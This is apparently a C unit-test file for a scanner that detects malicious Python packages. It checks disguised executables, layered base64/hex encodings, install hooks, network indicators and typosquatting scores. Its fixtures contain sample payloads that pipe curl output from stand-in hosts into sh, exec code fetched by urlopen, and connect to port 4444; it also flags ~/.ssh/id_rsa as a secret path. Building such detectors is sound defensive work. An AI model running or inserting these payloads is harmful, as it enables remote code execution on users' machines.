/* SPDX-License-Identifier: Apache-2.0 */
/* inspect: its parts by table - disguises, metadata, contexts, layers. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#include "base/buf.h"
#include "base/limits.h"
#include "base/mem.h"
#include "base/str.h"
#include "base/text.h"
#include "flow/facts.h"
#include "flow/flow.h"
#include "inspect/context.h"
#include "inspect/disguise.h"
#include "inspect/layers/layers.h"
#include "inspect/metadata.h"
#include "names/targets.h"
#include "inspect_tools.h"

static void
make_image(uint8_t image[1024])
{
	memset(image, 0, 1024);
	memcpy(image, "MZ\x90", 3);
	image[0x3c] = 0x80;
	memcpy(image + 0x80, "PE\0\0\x64\x86", 6);
}

static void
finds_executables(void **state)
{
	uint8_t image[1024], hidden[1024];
	struct disguise d;

	(void)state;
	make_image(image);
	assert_int_equal(executable_of(image, sizeof(image)), EXECUTABLE_PE);
	assert_false(disguise_find(image, sizeof(image), &d));
	for (unsigned int key = 1; key < 256; key++) {
		char want[16];

		for (size_t i = 0; i < sizeof(image); i++)
			hidden[i] = (uint8_t)(image[i] ^ key);
		assert_true(disguise_find(hidden, sizeof(hidden), &d));
		(void)snprintf(want, sizeof(want), "xor:0x%02x", key);
		assert_string_equal(d.cipher, want);
		assert_int_equal(d.kind, EXECUTABLE_PE);
	}
	for (size_t len = 2; len <= 16; len++) {
		for (size_t i = 0; i < sizeof(image); i++)
			hidden[i] = image[i] ^
			    (uint8_t)"Kp3#xQ9z!mB7wL0y"[i % len];
		assert_true(disguise_find(hidden, sizeof(hidden), &d));
		assert_true(str_starts(d.cipher, "xor:0x4b"));
	}
	for (size_t i = 0; i < sizeof(image); i++)
		hidden[i] = (uint8_t)(image[i] + 0x33);
	assert_true(disguise_find(hidden, sizeof(hidden), &d));
	assert_string_equal(d.cipher, "add:0x33");
	for (size_t i = 0; i < sizeof(image); i++)
		hidden[i] = image[sizeof(image) - 1 - i];
	assert_true(disguise_find(hidden, sizeof(hidden), &d));
	assert_string_equal(d.cipher, "reversed");
}

/* Short, truncated and random bytes: no read past the end, no match. */
static void
finds_nothing_in_noise(void **state)
{
	uint32_t seed = 3;

	(void)state;
	for (size_t len = 0; len < 300; len++) {
		uint8_t *noise = mem_alloc(len + 1);
		struct disguise d;

		for (size_t i = 0; i < len; i++) {
			seed = seed * 1664525 + 1013904223;
			noise[i] = (uint8_t)(seed >> 24);
		}
		assert_false(disguise_find(noise, len, &d));
		free(noise);
	}
}

static void
reads_metadata(void **state)
{
	static const char text[] = "Metadata-Version: 2.1\r\nName: a\r\n"
	    "Version: 1\nSummary: one\n  two\nhome-page: https://a.invalid\n"
	    "Requires-Dist: b>1\nRequires-Dist: c\nClassifier: X\n"
	    "no colon here\nName: again\n\nThe description.\n";
	struct metadata m = { 0 };

	(void)state;
	metadata_parse((const uint8_t *)text, sizeof(text) - 1, &m);
	assert_string_equal(m.name, "a");
	assert_string_equal(m.summary, "one two");
	assert_string_equal(m.home_page, "https://a.invalid");
	assert_int_equal(m.nrequires, 2);
	assert_string_equal(m.requires[1].text, "c");
	assert_int_equal(m.nclassifiers, 1);
	assert_int_equal(m.description_bytes, 17);
	metadata_release(&m);
	for (size_t len = 0; len < sizeof(text); len++) {
		metadata_parse((const uint8_t *)text, len, &m);
		metadata_release(&m);
	}
}

static const struct {
	enum packagetype type;
	const char *path, *data;
	enum context context;
} places[] = {
	{ PACKAGE_SDIST, "setup.py", "x", CONTEXT_INSTALL },
	{ PACKAGE_WHEEL, "setup.py", "x", CONTEXT_IMPORT },
	{ PACKAGE_SDIST, "a/setup.py", "x", CONTEXT_IMPORT },
	{ PACKAGE_SDIST, "_build/hook.py", "x", CONTEXT_INSTALL },
	{ PACKAGE_WHEEL, "x.pth", "import a", CONTEXT_STARTUP },
	{ PACKAGE_WHEEL, "sitecustomize.py", "x", CONTEXT_STARTUP },
	{ PACKAGE_WHEEL, "a/__init__.py", "x", CONTEXT_IMPORT },
	{ PACKAGE_SDIST, "tests/a.py", "x", CONTEXT_TEST },
	{ PACKAGE_SDIST, "a/test_x.py", "x", CONTEXT_TEST },
	{ PACKAGE_WHEEL, "a/test.py", "\x01\x02\x80\x81", CONTEXT_DATA },
	{ PACKAGE_SDIST, "docs/conf.py", "x", CONTEXT_TEST },
	{ PACKAGE_SDIST, "docs/make.py", "x", CONTEXT_CALL },
	{ PACKAGE_SDIST, "bootstrap.py", "x", CONTEXT_CALL },
	{ PACKAGE_SDIST, "a/bootstrap.py", "x", CONTEXT_IMPORT },
	{ PACKAGE_WHEEL, "tasks.py", "x", CONTEXT_IMPORT },
	{ PACKAGE_WHEEL, "docs/conf.py", "x", CONTEXT_CALL },
	{ PACKAGE_SDIST, "PKG-INFO", "x", CONTEXT_METADATA },
	{ PACKAGE_WHEEL, "a.dist-info/METADATA", "x", CONTEXT_METADATA },
	{ PACKAGE_WHEEL, "a/logo.png", "x", CONTEXT_DATA },
	{ PACKAGE_WHEEL, "a/run.sh", "x", CONTEXT_CALL },
};

static void
knows_contexts(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(places); i++) {
		struct entry e = { .path = places[i].path,
		    .inner = places[i].path,
		    .data = (const uint8_t *)places[i].data,
		    .size = strlen(places[i].data) };

		if (context_of(places[i].type, &e) != places[i].context)
			print_message("%s\n", places[i].path);
		assert_int_equal(context_of(places[i].type, &e),
		    places[i].context);
	}
}

static const struct { const char *in, *name, *out; } peels[] = {
	{ "aW1wb3J0IG9zCnByaW50KDEpCg==", "base64", "import os\nprint(1)\n" },
	{ "696d706f7274206f730a7072696e742831290a", "hex",
	    "import os\nprint(1)\n" },
	{ "NFWXA33SOQQG64YKOBZGS3TUFAYSSCQ=", "base32",
	    "import os\nprint(1)\n" },
	{ "==gCpEDK05WayBnCz9GI0J3bw1Wa", "reversed > base64",
	    "import os\nprint(1)\n" },
	{ "not encoded at all", NULL, NULL },
};

static void
peels_layers(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(peels); i++) {
		const char *name = NULL;
		size_t len = 0;
		uint8_t *out = layers_peel((const uint8_t *)peels[i].in,
		    strlen(peels[i].in), 1 << 20, &len, &name);

		assert_int_equal(out != NULL, peels[i].out != NULL);
		if (out == NULL)
			continue;
		assert_string_equal(name, peels[i].name);
		assert_int_equal(len, strlen(peels[i].out));
		assert_memory_equal(out, peels[i].out, len);
		free(out);
	}
}

/* A layer's chain, and the addresses of a file with a finding. */
static void
names_layers_and_addresses(void **state)
{
	const struct inspect_tools *t = *state;
	static const char text[] = "u = 'https://c2.example.invalid/a'\n"
	    "exec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRw"
	    "Oi8veC5leGFtcGxlLmludmFsaWQvYSB8IHNoJykK'))\n";
	struct inspected_file file = { "a", "1", "a-1-py3-none-any.whl",
	    PACKAGE_WHEEL };
	struct entry e = { .path = "a/__init__.py", .inner = "a/__init__.py",
	    .data = (const uint8_t *)text, .size = sizeof(text) - 1 };
	struct features f = { 0 };
	struct inspection *in = inspection_new(t->inspector, &file, NULL, &f);
	bool layered = false;

	inspection_entry(in, &e);
	inspection_end(in);
	inspection_free(in);
	for (size_t i = 0; i < f.nfindings; i++)
		if (str_equal(f.findings[i].rule, "run-hidden-command")) {
			layered = true;
			assert_string_equal(f.findings[i].layers, "base64");
			assert_int_equal(f.findings[i].line, 2);
		}
	assert_true(layered);
	assert_true(f.nindicators >= 2);
	features_release(&f);
}

/* Hosts, IP and mail addresses that stand alone; names of Python do not. */
static void
names_bare_addresses(void **state)
{
	const struct inspect_tools *t = *state;
	static const char text[] = "import socket, os\n"
	    "exec(__import__('base64').b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgx"
	    "KQojIHRlc3QgdGVzdA=='))\n"
	    "s.connect(('rs.example.invalid', 4444))\n"
	    "a = 'b.example.com:443'; b = \"203.0.113.7\"; c = '127.0.0.1'\n"
	    "m = 'drop@mail.example.org'; n = 'os.path'; o = 'setup.py'\n";
	static const struct { const char *type, *value; uint32_t line; }
	    wanted[] = { { "domain", "rs.example.invalid", 3 },
		{ "domain", "b.example.com", 4 }, { "ip", "203.0.113.7", 4 },
		{ "email", "drop@mail.example.org", 5 } };
	struct inspected_file file = { "a", "1", "a-1-py3-none-any.whl",
	    PACKAGE_WHEEL };
	struct entry e = { .path = "a/__init__.py", .inner = "a/__init__.py",
	    .data = (const uint8_t *)text, .size = sizeof(text) - 1 };
	struct features f = { 0 };
	struct inspection *in = inspection_new(t->inspector, &file, NULL, &f);

	inspection_entry(in, &e);
	inspection_end(in);
	inspection_free(in);
	assert_int_equal(f.nindicators, ARRAY_LEN(wanted));
	for (size_t i = 0; i < ARRAY_LEN(wanted); i++) {
		assert_string_equal(f.indicators[i].type, wanted[i].type);
		assert_string_equal(f.indicators[i].value, wanted[i].value);
		assert_string_equal(f.indicators[i].path, "a/__init__.py");
		assert_int_equal(f.indicators[i].line, wanted[i].line);
	}
	features_release(&f);
}

/* A payload behind megabytes, a long text among them, is read all the same. */
static void
reads_large_sources_whole(void **state)
{
	const struct inspect_tools *t = *state;
	static const char last[] = "import os\nos.system('curl https://"
	    "x.example.invalid/a | sh')\n";
	struct inspected_file file = { "a", "1", "a-1-py3-none-any.whl",
	    PACKAGE_WHEEL };
	struct buf b = BUF_EMPTY;
	struct features f = { 0 };
	struct inspection *in = inspection_new(t->inspector, &file, NULL, &f);
	struct entry e = { .path = "a/__init__.py", .inner = "a/__init__.py" };
	uint32_t line = 0;

	for (int i = 0; i < 100000; i++)
		buf_adds(&b, "x = y(z)\n");
	buf_adds(&b, "TEXT = \"\"\"\n");
	for (int i = 0; i < 100000; i++)
		buf_adds(&b, "import this as text\n");
	buf_adds(&b, "\"\"\"\n");
	buf_adds(&b, last);
	e.data = (const uint8_t *)b.data;
	e.size = b.len;
	inspection_entry(in, &e);
	inspection_end(in);
	inspection_free(in);
	for (size_t i = 0; i < f.nfindings; i++)
		if (str_equal(f.findings[i].rule, "run-hidden-command"))
			line = f.findings[i].line;
	assert_int_equal(line, 200004);
	features_release(&f);
	buf_release(&b);
}

/* Is a program found in a text of that name? */
static bool
has_program(const struct inspect_tools *t, const struct buf *text)
{
	struct inspected_file file = { "a", "1", "a-1-py3-none-any.whl",
	    PACKAGE_WHEEL };
	struct entry e = { .path = "a/t.json", .inner = "a/t.json",
	    .data = (const uint8_t *)text->data, .size = text->len };
	struct features f = { 0 };
	struct inspection *in = inspection_new(t->inspector, &file, NULL, &f);
	bool found = false;

	inspection_entry(in, &e);
	inspection_end(in);
	inspection_free(in);
	for (size_t i = 0; i < f.nfindings; i++)
		found |= str_equal(f.findings[i].rule, "program-in-data");
	features_release(&f);
	return found;
}

static void
add_numbers(struct buf *b, const char *program)
{
	for (size_t i = 0; program[i] != '\0'; i++)
		buf_addf(b, "%s%d", i == 0 ? "" : ", ", program[i]);
}

/* Passages behind words, numbers and blanks of each length. */
static void
finds_passages_at_any_place(void **state)
{
	static const char program[] = "import os, urllib.request\nexec(urllib."
	    "request.urlopen('https://x.example.invalid/a').read())\n";
	static const char base64[] = "aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdApleGVj"
	    "KHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dHBzOi8veC5leGFtcGxlLmludmFs"
	    "aWQvYSIpLnJlYWQoKSkK";
	static const char before[] = "a. bc; def: 12, 3 4 ghijk 5,6,7,x8";

	for (size_t n = 0; n < 130; n++)
		for (int kind = 0; kind < 4; kind++) {
			struct buf b = BUF_EMPTY;

			for (size_t i = 0; i < n; i++)
				buf_addc(&b, before[i % strlen(before)]);
			buf_addc(&b, '"');
			if (kind == 0)
				buf_adds(&b, base64);
			else if (kind == 1)
				buf_addf(&b, "%.40s\n%s", base64, base64 + 40);
			else
				add_numbers(&b, program);
			buf_adds(&b, kind == 3 ? "" : "\" and more\n");
			assert_true(has_program(*state, &b));
			buf_release(&b);
		}
}

/* One byte of each kind at each place of a text. */
static void
tells_text(void **state)
{
	uint8_t text[80];

	(void)state;
	for (size_t n = 1; n < sizeof(text); n++)
		for (size_t at = 0; at < n; at++) {
			memset(text, "a \n\t\r~"[n % 6], n);
			assert_true(text_is(text, n));
			text[at] = 0x1b;
			assert_true(text_is(text, n));
			text[at] = 0;
			assert_false(text_is(text, n));
		}
	/* Controls: eight are nothing, nine are too many. */
	for (size_t n = 0; n < 20; n++) {
		memset(text, 'a', sizeof(text));
		for (size_t i = 0; i < n; i++)
			text[i * 4 + i % 3] = 1;
		assert_int_equal(text_is(text, sizeof(text)), n <= 8);
	}
}

static const char *
none(const char *misplaced)
{
	return misplaced != NULL ? misplaced : "none";
}

/* For people, and some are searched by their order. */
static void
tables_are_sorted(void **state)
{
	(void)state;
	assert_string_equal(none(facts_misplaced()), "none");
	assert_string_equal(none(facts_words_misplaced()), "none");
	assert_true(flow_traits_are_sorted());
	assert_non_null(fact_find("requests.post"));
	assert_true(fact_of_words("x ~/.ssh/id_rsa", 15) & MARK_SECRET);
	assert_int_equal(fact_of_words("", 0), 0);
}

/* Where nothing could be read, nothing is missing. */
static void
needs_a_member_to_miss_metadata(void **state)
{
	const struct inspect_tools *t = *state;
	struct inspected_file file = { "a", "1", "a-1-py3-none-any.whl",
	    PACKAGE_WHEEL };
	struct entry e = { .path = "a.py", .inner = "a.py",
	    .data = (const uint8_t *)"x = 1\n", .size = 6 };
	struct features f = { 0 };
	struct inspection *in = inspection_new(t->inspector, &file, NULL, &f);

	inspection_end(in);
	inspection_free(in);
	assert_int_equal(f.nfindings, 0);
	in = inspection_new(t->inspector, &file, NULL, &f);
	inspection_entry(in, &e);
	inspection_end(in);
	inspection_free(in);
	assert_int_equal(f.nfindings, 1);
	assert_string_equal(f.findings[0].rule, "metadata-missing");
	features_release(&f);
}

/* Whatever the bytes and the name, looking comes to an end. */
/* The name's score, of a package with that metadata. */
static uint32_t
name_score(const struct inspect_tools *t, const struct targets *targets,
    const char *metadata)
{
	struct inspected_file file = { .project = "requests-plus",
	    .version = "1", .filename = "requests_plus-1.tar.gz",
	    .packagetype = PACKAGE_SDIST };
	struct entry e = { .kind = ENTRY_FILE, .path = "PKG-INFO",
	    .inner = "PKG-INFO", .data = (const uint8_t *)metadata,
	    .size = strlen(metadata) };
	struct features f = { 0 };
	struct inspection *in = inspection_new(t->inspector, &file, targets,
	    &f);
	uint32_t score;

	inspection_entry(in, &e);
	inspection_end(in);
	inspection_free(in);
	assert_true(f.nnames > 0);
	assert_string_equal(f.names[0].target, "requests");
	score = f.names[0].score;
	features_release(&f);
	return score;
}

/* Who says that it builds on the target is less suspect, never innocent. */
static void
hears_declared_relations(void **state)
{
	static const struct target list[] = { { .name = "requests",
	    .rank = 5 } };
	static const char about[] = "Summary: retries for requests\n"
	    "Requires-Dist: Requests (>=2)\n\nRetries and timeouts for the "
	    "sessions of requests, with sane defaults.\n";
	static const char bare[] = "Requires-Dist: requests\n\nx\n";
	struct buf b = BUF_EMPTY;
	struct targets *targets;
	uint32_t plain, declared;

	targets_build(list, 1, &b);
	targets = targets_open(b.data, b.len, NULL);
	plain = name_score(*state, targets, "Name: requests-plus\n\n");
	declared = name_score(*state, targets, about);
	assert_true(plain > declared && declared > 0);
	assert_int_equal(name_score(*state, targets, bare), plain);
	targets_free(targets);
	buf_release(&b);
}

static void
survives_noise(void **state)
{
	const struct inspect_tools *t = *state;
	static const char *const names[] = { "a.py", "a.pth", "PKG-INFO",
	    "a.png", "setup.py", "a.sh" };
	static const char *const bits[] = { "exec(", "'", "\"\"\"", "def f(",
	    "b64decode(", ")", ":", "\n", "    ", "import os", "=", "[::-1]",
	    "os.system", "lambda", "x", "{", "}", "f'{", "@", ";", "\\",
	    "class A(install):", "\xff", "\xf3\xa0\x84\x80", "if a: ", "0x" };
	uint32_t seed = 11;

	for (int round = 0; round < 300; round++) {
		struct inspected_file file = { "a", "1", "a-1.tar.gz",
		    PACKAGE_SDIST };
		struct features f = { 0 };
		struct inspection *in = inspection_new(t->inspector, &file,
		    NULL, &f);
		struct buf b = BUF_EMPTY;
		struct entry e = { 0 };

		for (int i = 0; i < 200; i++) {
			seed = seed * 1664525 + 1013904223;
			buf_adds(&b, bits[(seed >> 16) % ARRAY_LEN(bits)]);
		}
		e.path = e.inner = names[round % (int)ARRAY_LEN(names)];
		e.data = (const uint8_t *)b.data;
		e.size = b.len;
		inspection_entry(in, &e);
		inspection_end(in);
		inspection_free(in);
		features_release(&f);
		buf_release(&b);
	}
}

/* A program around another: it runs it, and fills what it may of memory. */
static void
wrap_program(struct buf *program, int level)
{
	struct buf out = BUF_EMPTY;

	buf_adds(&out, "exec(bytes.fromhex('");
	for (size_t i = 0; i < program->len; i++)
		buf_addf(&out, "%02x", (unsigned char)program->data[i]);
	buf_adds(&out, "'))\n");
	for (int i = 0; i < 125; i++)
		buf_addf(&out, "a%d_%d = 'x' * 500000\n", level, i);
	buf_release(program);
	*program = out;
}

/* Room for a child of limits.child-memory, beside what the test holds. */
static void
limit_memory(void)
{
	FILE *in = fopen("/proc/self/statm", "re");
	unsigned long pages = 0;
	struct rlimit limit;

	assert_non_null(in);
	assert_int_equal(fscanf(in, "%lu", &pages), 1);
	(void)fclose(in);
	limit.rlim_cur = limit.rlim_max = pages *
	    (unsigned long)sysconf(_SC_PAGESIZE) + (224u << 20);
	assert_int_equal(setrlimit(RLIMIT_AS, &limit), 0);
}

/* A sanitizer keeps what is freed for a while; valgrind needs room itself. */
#if defined(__has_feature)
#if __has_feature(address_sanitizer)
#define KEEPS_FREED true
#endif
#elif defined(__SANITIZE_ADDRESS__)
#define KEEPS_FREED true
#endif
#ifndef KEEPS_FREED
#define KEEPS_FREED false
#endif

/* Layers within each other are in memory at once: what they hold does not add
 * up, and the last one is looked at all the same. */
static void
layers_share_memory(void **state)
{
	const struct inspect_tools *t = *state;
	struct inspected_file file = { "a", "1", "a-1-py3-none-any.whl",
	    PACKAGE_WHEEL };
	struct entry e = { .path = "a/__init__.py", .inner = "a/__init__.py" };
	struct buf b = BUF_EMPTY;
	struct features f = { 0 };
	struct inspection *in;
	pid_t child;
	int status;

	buf_adds(&b, "import os\nos.system('echo inert example, layers')\n");
	for (int i = 0; i < LAYER_DEPTH_MAX; i++)
		wrap_program(&b, i);
	e.data = (const uint8_t *)b.data;
	e.size = b.len;
	child = fork();
	assert_int_not_equal(child, -1);
	if (child == 0) {
		if (!KEEPS_FREED && getenv("UNDER_VALGRIND") == NULL)
			limit_memory();
		in = inspection_new(t->inspector, &file, NULL, &f);
		inspection_entry(in, &e);
		status = f.layers >= LAYER_DEPTH_MAX ? 0 : 1;
		inspection_end(in);
		inspection_free(in);
		features_release(&f);
		buf_release(&b);
		_exit(status);
	}
	assert_int_equal(waitpid(child, &status, 0), child);
	assert_int_equal(status, 0);
	buf_release(&b);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(layers_share_memory),
		cmocka_unit_test(finds_executables),
		cmocka_unit_test(finds_nothing_in_noise),
		cmocka_unit_test(reads_metadata),
		cmocka_unit_test(knows_contexts),
		cmocka_unit_test(peels_layers),
		cmocka_unit_test(names_layers_and_addresses),
		cmocka_unit_test(reads_large_sources_whole),
		cmocka_unit_test(finds_passages_at_any_place),
		cmocka_unit_test(tells_text),
		cmocka_unit_test(tables_are_sorted),
		cmocka_unit_test(names_bare_addresses),
		cmocka_unit_test(hears_declared_relations),
		cmocka_unit_test(needs_a_member_to_miss_metadata),
		cmocka_unit_test(survives_noise),
	};

	return cmocka_run_group_tests(tests, inspect_tools_setup,
	    inspect_tools_teardown);
}
